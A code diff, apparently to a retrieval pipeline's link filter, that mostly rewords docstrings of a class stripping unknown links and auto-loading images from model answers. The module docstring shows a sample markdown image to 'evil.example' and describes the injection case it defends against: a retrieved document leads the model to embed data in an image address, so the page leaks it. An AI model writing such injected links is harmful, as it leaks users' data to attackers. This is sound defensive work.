@@ -1,38 +1,36 @@
-"""Links and images in answers: only addresses of the passages get through, and no image loads by itself.
+"""Link filter: only addresses of the chunks stay in answers, and no image loads by itself.
 
-A document can ask a model to write ``![](https://evil.example/?q=...)`` with what it read elsewhere; a page
-that shows the answer would send it there. So an address that stands in no passage is taken out, and an image
-of one that does becomes a link: which of several images is shown could tell something, too. A construct is
-held back until it is complete, or taken out when it gets too long; other text is never held back.
+A document can make a model write ``![](https://evil.example/?q=...)`` with data from elsewhere; a page that
+shows the answer would send it there. So an address that occurs in no chunk is removed, and an image of a
+known one becomes a link: the choice among images could carry data too. A construct is held back until it is
+complete, or removed if it gets too long; other text is never held back.
 """
 
 import re
 from collections.abc import Callable
 
-from vectorforge.pipeline.guardrails import link_patterns as patterns
+from vectorforge.pipeline.guardrails import addresses as patterns
 from vectorforge.pipeline.guardrails.addresses import AllowedAddresses, is_external, without_punctuation
 
 REMOVED = "[link removed]"
 
 _LONGEST = 2_000
-"""Characters of a construct that are held back; a longer one is taken out."""
+"""Characters of a construct that are held back; a longer one is removed."""
 _LONGEST_TITLE = 400
 _STEP = 1_000
-"""Characters looked at together: what is done for a construct never depends on the length of an answer."""
+"""Characters scanned together: the work for a construct never depends on the length of an answer."""
 _LONGEST_HOST = 253
 """Characters of a name in DNS: https://www.rfc-editor.org/rfc/rfc1035#section-2.3.4, without the last dot."""
 _ENTITY = 200
-"""Characters of a destination that show its scheme, where they may be written as entities."""
+"""Characters of a destination that show its scheme, entities included."""
 _CONTEXT = 80
-"""Characters written last that say what the next ones mean: a scheme, a host's labels."""
+"""Last characters returned, as context of the next ones: a scheme, a host's labels."""
 _Step = tuple[str, int] | None
-"""What is written for a construct and where it ends; None: more of it has to be read first."""
+"""Replacement of a construct and its end; None if more text is needed."""
 
 
 class LinkFilter:
-    """Passes an answer on, piece by piece, without what leads out of it.
-
-    The pieces may be cut anywhere: joined, what comes out is the same for all cuts.
+    """Removes foreign links from an answer, piece by piece. The result does not depend on the cuts.
 
     Args:
         known: Addresses that may stay.
@@ -41,29 +39,29 @@ class LinkFilter:
     def __init__(self, known: AllowedAddresses) -> None:
         self._known = known
         self._written = ""
-        """The end of what was passed on: constructs are seen as the reader will see them."""
+        """End of the text returned: constructs are matched as the reader sees them."""
         self._held = ""
         self._in_image = False
-        """Whether an image's text may be open in this paragraph."""
+        """True if an image's text may be open in this paragraph."""
         self._is_whole = False
         self._swallowing = False
         self._taken = 0
-        """Characters read so far, without what is held."""
+        """Characters read so far, without the text held back."""
         self._offset = 0
-        """Of the text that a resolver is given, in the answer."""
+        """Offset in the answer of the text that a resolver gets."""
         self._run = (0, 0)
-        """A run without spaces: where it was looked at, and how far it goes at least."""
+        """Run without spaces: place of the last look, and its least end."""
         self._tag_parts: dict[int, list[int]] = {}
-        """By the place where a part of a start tag begins: how far it and the parts after it are known. Tags
-        that read the same parts share the list of one number."""
+        """Start of a part of a start tag -> end of the known parts after it. Tags with the same parts share
+        the list of one number."""
         self.changes = 0
-        """Addresses taken out, and images that became links."""
+        """Count of removed addresses and of images that became links."""
         self._resolvers: dict[str, Callable[[str, int], _Step]] = {
             name: getattr(self, f"_{name}") for name in patterns.TRIGGER.groupindex
         }
 
     def feed(self, text: str) -> str:
-        """What can be passed on with the next piece; often all of it."""
+        """Add a piece; return the text that is certain, often all of it."""
         in_construct = self._held or self._swallowing or self._written[-1:] in patterns.OPEN_ENDS
         if not in_construct and not patterns.may_begin_in(text):
             self._taken += len(text)
@@ -72,7 +70,7 @@ class LinkFilter:
         return "".join(self._scan(text[start : start + _STEP]) for start in range(0, len(text), _STEP))
 
     def finish(self) -> str:
-        """The rest, when the answer is complete."""
+        """Return the rest of a complete answer."""
         self._is_whole = True
         return self._scan("") if self._held else ""
 
@@ -115,7 +113,7 @@ class LinkFilter:
         self._written = (self._written + text)[-_CONTEXT:]
 
     def _ends(self, seen: str, end: int) -> bool:
-        """Whether what ends there is certain to end there."""
+        """Return True if a match that ends there cannot become longer."""
         return end < len(seen) or self._is_whole
 
     def _remove(self, written: str, end: int) -> _Step:
@@ -127,7 +125,7 @@ class LinkFilter:
         return self._remove(lead + REMOVED, start + _LONGEST)
 
     def _destination(self, seen: str, start: int) -> tuple[int, int] | None:
-        """Where a destination begins and ends that may have a line break before it; None: not yet known."""
+        """Return start and end of a destination, possibly after a line break; None if not yet known."""
         begin = _end(patterns.BLANK, seen, start)
         if not self._ends(seen, begin):
             return None
@@ -144,9 +142,9 @@ class LinkFilter:
         return (begin, end) if end - begin > _LONGEST or self._ends(seen, end) else None
 
     def _stays_inside(self, seen: str, start: int) -> tuple[str, int] | None:
-        """The bracket or colon before a destination whose first letters show that it stays in the page.
+        """Return the bracket or colon before a destination whose first letters show that it is local.
 
-        Most are seen to at once; looking for the ends of many that never end would take long.
+        A fast path: searching for the ends of many destinations that never end would take long.
         """
         begin = _end(patterns.BLANK, seen, start + 1)
         if begin == len(seen) or not patterns.HARMLESS.match(seen, begin):
@@ -157,7 +155,7 @@ class LinkFilter:
         return (" " if is_empty and begin - start > 100 else "") + seen[start], begin
 
     def _link(self, seen: str, start: int) -> _Step:
-        """``(destination "title")`` behind a link's or an image's text."""
+        """``(destination "title")`` after the text of a link or an image."""
         inside = self._stays_inside(seen, start)
         place = None if inside else self._destination(seen, start + 1)
         if inside is not None:
@@ -183,13 +181,13 @@ class LinkFilter:
         return self._remove("", title.end() if title else end)
 
     def _inside(self, bracket: str, start: int, *, is_empty: bool) -> _Step:
-        """The bracket before a destination in the page, from which no image must load by itself either."""
+        """Return the bracket before a local destination, from which no image must load by itself either."""
         if self._in_image and not is_empty:
             return self._remove(" (", start + 1)
         return bracket, start + 1
 
     def _definition(self, seen: str, start: int) -> _Step:
-        """``: destination`` behind a reference's label; it would make links and images of other places."""
+        """``: destination`` after a reference's label, which makes links and images elsewhere."""
         inside = self._stays_inside(seen, start)
         if inside is not None:
             end = _end(patterns.PATH_DECIDED, seen, inside[1])
@@ -212,7 +210,7 @@ class LinkFilter:
         return self._remove(f" : {REMOVED}", end)
 
     def _style(self, seen: str, start: int) -> _Step:
-        """``(address)`` behind ``url`` in a style sheet."""
+        """``(address)`` after ``url`` in a style sheet."""
         end = seen.find(")", start, start + _LONGEST)
         if end < 0 and len(seen) - start < _LONGEST and not self._is_whole:
             return None
@@ -240,7 +238,7 @@ class LinkFilter:
             return "<", start + 1
         name = patterns.TAG_NAME.match(seen, start)
         if name is not None and name[1].lower() == "style":
-            return self._escaped(seen, start)  # what it holds is not looked into
+            return self._escaped(seen, start)  # its content is not parsed
         if name is None or seen[name.end()] == ">":
             return "<", start + 1
         return self._tag(seen, start, name)
@@ -288,17 +286,17 @@ class LinkFilter:
         return (seen[start:end], end) if name == "a" else self._escaped(seen, start)
 
     def _escaped(self, seen: str, start: int) -> _Step:
-        """``<`` as text; apart from what is before it, which may be an address in angle brackets."""
+        """Return ``<`` as text, separated from a possible address before it."""
         return "&lt;" if start == 0 or seen[start - 1].isspace() else " &lt;", start + 1
 
     def _web(self, seen: str, start: int) -> _Step:
-        """``https://...`` and ``www. ...``, or what may become one."""
+        """``https://...`` and ``www. ...``, or the start of one."""
         if len(seen) - start < 9 and seen[start:].lower() in patterns.BEGINNINGS:
             return (seen[start], start + 1) if self._is_whole else None
         return self._bare(seen, start)
 
     def _scheme(self, seen: str, start: int) -> _Step:
-        """``//...`` behind a scheme that has been passed on."""
+        """``//...`` after a scheme that was returned before."""
         if not seen.startswith("//", start):
             return (seen[start], start + 1) if self._is_whole else None
         if not self._ends(seen, start + 2):
@@ -309,7 +307,7 @@ class LinkFilter:
         return self._bare(seen, start, scheme[0] if scheme else "")
 
     def _relative(self, seen: str, start: int) -> _Step:
-        """``//example.com/...``, of which some programs make links, too."""
+        """``//example.com/...``, which some programs turn into links."""
         end = self._run_end(seen, start)
         if end - start <= _LONGEST and not self._ends(seen, end):
             return None
@@ -318,7 +316,7 @@ class LinkFilter:
         )
 
     def _host(self, seen: str, start: int) -> _Step:
-        """``com/...`` behind ``example.``: many programs make links of that, too."""
+        """``com/...`` after ``example.``, which many programs turn into links."""
         end = _end(patterns.HOST_SO_FAR, seen, start)
         if end - start <= _LONGEST and end + 1 >= len(seen) and not self._is_whole:
             return None
@@ -338,7 +336,7 @@ class LinkFilter:
         return self._bare(seen, start, labels[0])
 
     def _mail(self, seen: str, start: int) -> _Step:
-        """``@example.com`` behind a name: an address that programs make a link of."""
+        """``@example.com`` after a name, which programs turn into links."""
         end = _end(patterns.MAIL_HOST, seen, start + 1)
         if end - start <= _LONGEST and end + 1 >= len(seen) and not self._is_whole:
             return None
@@ -350,7 +348,7 @@ class LinkFilter:
         return self._remove(f"@{REMOVED}", end)
 
     def _call(self, seen: str, start: int) -> _Step:
-        """What follows ``mailto:``, ``sms:`` and the like, of which programs make links, too."""
+        """Text after ``mailto:``, ``sms:`` and the like, which programs turn into links."""
         scheme = patterns.SCHEME_BEFORE.search(seen[max(0, start - _CONTEXT) : start])
         end = self._run_end(seen, start)
         if end == start:
@@ -360,7 +358,7 @@ class LinkFilter:
         return self._bare(seen, start, scheme[0] if scheme else "")
 
     def _run_end(self, seen: str, start: int) -> int:
-        """Where the run without spaces ends, as far as it is there; it is read once for all places in it."""
+        """Return the end of a run without spaces, as far as received; each run is read once."""
         begin, end = self._run
         place = start + self._offset
         known = min(end - self._offset, len(seen)) if begin <= place < end else start
@@ -370,7 +368,7 @@ class LinkFilter:
         return found
 
     def _bare(self, seen: str, start: int, prefix: str = "") -> _Step:
-        """An address in the text; a part of it may have been passed on."""
+        """Address in the text; a part of it may have been returned before."""
         end = self._run_end(seen, start)
         if end - start > _LONGEST:
             return self._too_long(start)
@@ -394,6 +392,6 @@ def _end(pattern: re.Pattern[str], text: str, start: int = 0) -> int:
 
 
 def without_foreign_links(text: str, known: AllowedAddresses) -> str:
-    """A text that is there as a whole, as ``LinkFilter`` would pass it on."""
+    """Return a complete text as ``LinkFilter`` returns it."""
     links = LinkFilter(known)
     return links.feed(text) + links.finish()
